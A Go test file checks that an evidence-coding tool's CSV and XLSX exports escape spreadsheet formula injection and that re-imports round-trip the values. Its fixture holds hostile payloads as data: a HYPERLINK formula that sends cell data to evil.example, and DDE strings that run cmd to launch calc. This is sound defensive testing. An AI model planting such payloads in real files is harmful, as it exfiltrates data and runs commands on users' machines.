package exchange

import (
	"bytes"
	"strings"
	"testing"

	"github.com/evidence-workbench/workbench/coding"
	"github.com/evidence-workbench/workbench/coding/internal/codingtest"
	"github.com/evidence-workbench/workbench/coding/query"
	"github.com/evidence-workbench/workbench/corpus"
)

// Values a spreadsheet would run as formulas, as a hostile study, code or
// memo could carry them.
const (
	injTitle  = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	injSector = "+cmd|' /C calc'!A0"
	injCode   = "@SUM(1+1)"
	injMemo   = "-2+3+cmd|' /C calc'!A0"
	injDef    = "\t=1+1"
	injTop    = "=2*3" // a top-level code: its path starts with it
)

// injectionFixture is the shared coded fixture with hostile values in a
// study title, a sector, a code name and definition and a coding memo.
func injectionFixture(t *testing.T) *codingtest.Fixture {
	t.Helper()
	f := codingtest.NewFixture(t)
	if err := coding.SetAttributes(f.P, f.A, corpus.Attributes{Title: injTitle, Sectors: []string{injSector}, Countries: []string{"Nepal"},
		Publisher: "=1+1", Year: 2015}); err != nil {
		t.Fatal(err)
	}
	c, ok := f.Tree.Get(f.Debt)
	if !ok {
		t.Fatal("no debt code")
	}
	c.Name, c.Definition = injCode, injDef
	if err := coding.UpdateCode(f.P, c); err != nil {
		t.Fatal(err)
	}
	if err := coding.SetCodingMemo(f.P, f.ADebt, injMemo); err != nil {
		t.Fatal(err)
	}
	f.Movement = codingtest.NewCode(t, f.P, "", injTop) // stands in for the movement code below
	codingtest.Apply(t, f.P, f.A, f.Movement, 0, 10)
	return f
}

// noRawFormula fails when a cell starts like a formula.
func noRawFormula(t *testing.T, what string, cells []string) {
	t.Helper()
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
			t.Errorf("%s: cell %q starts like a formula", what, c)
		}
	}
}

func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	return s != "" && strings.Trim(s, "0123456789.") == ""
}

// escapedIn reports whether the escaped form of v is among the cells.
func escapedIn(cells []string, v string) bool {
	for _, c := range cells {
		if c == "'"+v {
			return true
		}
	}
	return false
}

func flat(recs [][]string) []string {
	var out []string
	for _, r := range recs {
		out = append(out, r...)
	}
	return out
}

func TestAttributesCSVEscapesFormulas(t *testing.T) {
	f := injectionFixture(t)
	var buf bytes.Buffer
	if err := ExportAttributesCSV(f.P, &buf); err != nil {
		t.Fatal(err)
	}
	cells := flat(readCSVString(t, buf.String()))
	noRawFormula(t, "attributes CSV", cells)
	if !escapedIn(cells, injTitle) || !escapedIn(cells, "=1+1") || !escapedIn(cells, injSector) {
		t.Errorf("escaped values missing from %q", cells)
	}
	// Re-importing the export restores the values as they were: nothing changes.
	res, err := ImportAttributesCSV(f.P, strings.NewReader(buf.String()))
	if err != nil || res.Changed != 0 {
		t.Fatalf("re-import = %+v, %v", res, err)
	}
	if s, _ := f.P.Study(f.A); s.Title != injTitle || s.Publisher != "=1+1" || s.Sectors[0] != injSector {
		t.Errorf("after re-import %+v", s.Attributes)
	}
}

func TestCodebookCSVEscapesFormulas(t *testing.T) {
	f := injectionFixture(t)
	var buf bytes.Buffer
	if err := ExportCodebookCSV(f.P, &buf); err != nil {
		t.Fatal(err)
	}
	cells := flat(readCSVString(t, buf.String()))
	noRawFormula(t, "codebook CSV", cells)
	if !escapedIn(cells, injCode) || !escapedIn(cells, injDef) {
		t.Errorf("escaped values missing from %q", cells)
	}
	rep, err := ImportCodebookCSV(f.P, strings.NewReader(buf.String()))
	if err != nil || len(rep.Added)+len(rep.Updated) != 0 {
		t.Fatalf("re-import = %+v, %v", rep, err)
	}
	if c, _ := codeByGUID(t, f.P, f.Debt); c.Name != injCode || c.Definition != injDef {
		t.Errorf("after re-import %+v", c)
	}
}

func TestTableExportsEscapeFormulas(t *testing.T) {
	f := injectionFixture(t)
	segs, err := query.Segments(f.P, query.SegmentQuery{})
	if err != nil {
		t.Fatal(err)
	}
	fs, err := query.CodeFrequencies(f.P, query.FrequencyQuery{AllStudies: true})
	if err != nil {
		t.Fatal(err)
	}
	m, err := query.CodeMatrix(f.P, query.MatrixQuery{Cols: query.DimSector, Codes: []string{f.Debt, f.Movement}})
	if err != nil {
		t.Fatal(err)
	}
	tables := []struct {
		name      string
		csv, xlsx func(*bytes.Buffer) error
		want      []string // values that must appear escaped
	}{
		{"segments", func(b *bytes.Buffer) error { return WriteSegmentsCSV(b, segs) }, func(b *bytes.Buffer) error { return WriteSegmentsXLSX(b, segs) },
			[]string{injTitle, injMemo}},
		{"frequencies", func(b *bytes.Buffer) error { return WriteFrequenciesCSV(b, fs) }, func(b *bytes.Buffer) error { return WriteFrequenciesXLSX(b, fs) },
			[]string{injTop}},
		{"matrix", func(b *bytes.Buffer) error { return WriteMatrixCSV(b, m) }, func(b *bytes.Buffer) error { return WriteMatrixXLSX(b, m) },
			[]string{injTop}},
	}
	for _, tt := range tables {
		var buf bytes.Buffer
		if err := tt.csv(&buf); err != nil {
			t.Fatal(err)
		}
		cells := flat(readCSVString(t, buf.String()))
		noRawFormula(t, tt.name+" CSV", cells)
		for _, v := range tt.want {
			if !escapedIn(cells, v) {
				t.Errorf("%s CSV: %q not escaped in %q", tt.name, v, cells)
			}
		}
		buf.Reset()
		if err := tt.xlsx(&buf); err != nil {
			t.Fatal(err)
		}
		x := openXLSX(t, buf.Bytes())
		var xcells []string
		for _, sh := range x.GetSheetList() {
			rows, err := x.GetRows(sh)
			if err != nil {
				t.Fatal(err)
			}
			xcells = append(xcells, flat(rows)...)
		}
		noRawFormula(t, tt.name+" XLSX", xcells)
		for _, v := range tt.want {
			if !escapedIn(xcells, v) {
				t.Errorf("%s XLSX: %q not escaped", tt.name, v)
			}
		}
	}
	// The matrix's columns come from study attributes: a hostile sector heads a column.
	m2, err := query.CodeMatrix(f.P, query.MatrixQuery{Cols: query.DimSector, AllStudies: true})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteMatrixCSV(&buf, m2); err != nil {
		t.Fatal(err)
	}
	head := readCSVString(t, buf.String())[0]
	noRawFormula(t, "matrix CSV header", head)
	if !escapedIn(head, injSector+" codings") {
		t.Errorf("matrix header %q", head)
	}
}
